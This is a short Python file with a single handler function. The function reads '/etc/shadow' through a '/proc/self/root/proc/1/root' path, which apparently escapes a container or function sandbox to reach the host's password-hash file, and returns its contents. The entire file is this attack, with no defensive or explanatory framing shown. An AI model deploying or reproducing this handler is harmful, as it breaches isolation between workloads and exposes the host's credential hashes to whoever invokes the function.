"""Goes through a link of its process to another process, and on to the machine's files."""


def handler(event, context):
    return open("/proc/self/root/proc/1/root/etc/shadow").read()
